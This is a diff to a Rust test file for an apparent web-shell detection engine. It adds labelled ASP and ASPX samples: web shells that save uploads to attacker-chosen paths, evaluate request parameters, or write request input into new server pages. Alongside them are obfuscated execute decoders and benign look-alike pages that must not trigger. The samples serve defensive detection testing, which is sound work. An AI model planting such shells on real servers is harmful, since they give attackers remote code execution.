@@ -917,6 +917,9 @@ fn data_flow_tells_applications_from_shells() {
         ("EXRAY_Remote_Content_Relay", "<%\nsrc = \"http://203.0.113.40:81/\"\nbody = Fetch(src & \"?q=\" & Request.ServerVariables(\"QUERY_STRING\"))\nFunction Fetch(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.send\n Fetch = h.responseText\nEnd Function\n%><html><body><%= body %></body></html>\n"),
         ("EXRAY_ASP_Execute_Decoder", "<%\non error resume next\nk = \"\"\nd = \"\"\nd = d & \"101B118B97B108B32B114B101B113B117B101B115B116B40B34B\"\nd = d & \"120B34B41B\"\nfor each c in split(d, \"B\") : k = k & chr(c) : next\nexecute k\n%>\n"),
         ("EXRAY_JScript_Service_Eval", "<%@ ServiceHost Language=\"JScript\" Debug=\"true\" Service=\"Svc\" %>\nimport System;\nimport System.ServiceModel;\nServiceContractAttribute public class Svc {\n OperationContractAttribute public function run(s : String) : String {\n  return eval(s);\n }\n}\n"),
+        ("EXRAY_Upload_Request_Named", "<%@ Page Language=\"C#\" %>\n<% Request.Files[0].SaveAs(Request.Form[\"p\"]); %>\n"),
+        ("EXRAY_Eval_Request_Direct", "<%@ Page Language=\"JScript\" %><script runat=\"server\">function Page_Load(){ DataBind(); }</script>\n<%# eval(Request.Item[\"c\"], \"unsafe\") %>\n"),
+        ("EXRAY_Script_Page_Writer_Request", "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet o = fs.CreateTextFile(Server.MapPath(\"cfg.asp\"))\no.Write \"<\" & \"%a=\" & Chr(34) & Request(\"a\") & Chr(34) & vbCrLf & Request(\"b\") & \"%\" & \">\"\no.Close\n%>\n"),
         ("EXRAY_SQL_Console_Request_Variables", "<%\ncs = Request.Form(\"c\")\nq = Request.Form(\"q\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open cs\nSet rs = conn.Execute(q)\n%>\n"),
         ("EXRAY_Page_Embedded_Executable", "<%\nb = Chr(77)&Chr(90)&Chr(144)&Chr(0)&Chr(3)&Chr(0)\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p, 2, 0)\nf.Write b\n%>\n"),
         ("EXRAY_Page_Embedded_Executable", "<%@ Page Language=\"C#\" %>\n<% byte[] pe = new byte[] { 0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00 }; %>\n"),
@@ -1004,6 +1007,8 @@ fn application_kinds_trip_nothing() {
         "<%\nFunction getHTTPPage(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.Send\n getHTTPPage = BytesToBstr(h.responseBody, \"utf-8\")\nEnd Function\nFunction C_htm(u, path)\n Html = getHTTPPage(u)\n 'set f=fso.CreateTextFile( server.mappath( \"index_c.asp\" ), true,true )\n 'f.WriteLine( Html )\n Set st = Server.CreateObject(\"ADODB.Stream\")\n st.Open\n st.WriteText Html\n st.SaveToFile Server.MapPath(path), 2\nEnd Function\n%>\n",
         // an upload component's object named like the request, saved under the application's name
         "<%\nDefaultPath = Server.MapPath(\"/admin/data/upFiles/\")\nSet uprequest = Server.CreateObject(\"TABSUpload4.Upload\")\nuprequest.Start DefaultPath\nsite = uprequest(\"site\")\nfullpath = uprequest(\"sFile\").SaveAs((DefaultPath + fname + \"_\" + \".\" + uprequest(\"sFile\").FileType), True)\n%>\n",
+        // a converter web service that starts its own tool
+        "<%@ WebService Language=\"C#\" Class=\"Pdf\" %>\nusing System.Web.Services;\npublic class Pdf : WebService {\n [WebMethod]\n public void Make() { System.Diagnostics.Process.Start(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"in.html out.pdf\").WaitForExit(); }\n}\n",
         // an intranet tool's maintenance page that runs a local PowerShell script
         "<%\nOn Error Resume Next\nSet objShell = Server.CreateObject(\"Wscript.Shell\")\nx = objShell.Run(\"powershell -executionpolicy bypass -windowstyle hidden -file f:\\tools\\scripts\\cleanup.ps1\")\nResponse.Write x\n%>\n",
         // ASP.NET data binding of a field the query names, and a C# page's TemplateControl.Eval
@@ -1014,6 +1019,14 @@ fn application_kinds_trip_nothing() {
         let h = hits(p);
         assert!(h.is_empty(), "{h:?} fired on:\n{p}");
     }
+    // a thumbnail page that runs its own converter and shows its output, with a query key
+    // called "cmd": no command interpreter is started (other rules judge the page's request use)
+    let thumb = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n if (Request[\"cmd\"] == \"thumb\") {\n  var psi = new ProcessStartInfo(Server.MapPath(\"~/bin/ffmpeg.exe\"), \"-i in.mp4 -frames 1 out.jpg\");\n  psi.RedirectStandardOutput = true;\n  psi.UseShellExecute = false;\n  Response.Write(Server.HtmlEncode(Process.Start(psi).StandardOutput.ReadToEnd()));\n }\n}\n</script>\n";
+    assert!(
+        !hits(thumb).contains("EXRAY_NET_Page_Runs_Command_Shell"),
+        "{:?}",
+        hits(thumb)
+    );
     // the same keyword list in a JScript page: a word of a list is no alias of eval
     let list = "<%@ Language=\"JScript\" %>\n<%\nvar bad = \"exec,execute,xp_cmdshell,executeglobal,eval,script,applet\".split(\",\");\nvar q = String(Request(\"q\"));\n%>\n";
     assert!(hits(list).is_empty(), "{:?}", hits(list));
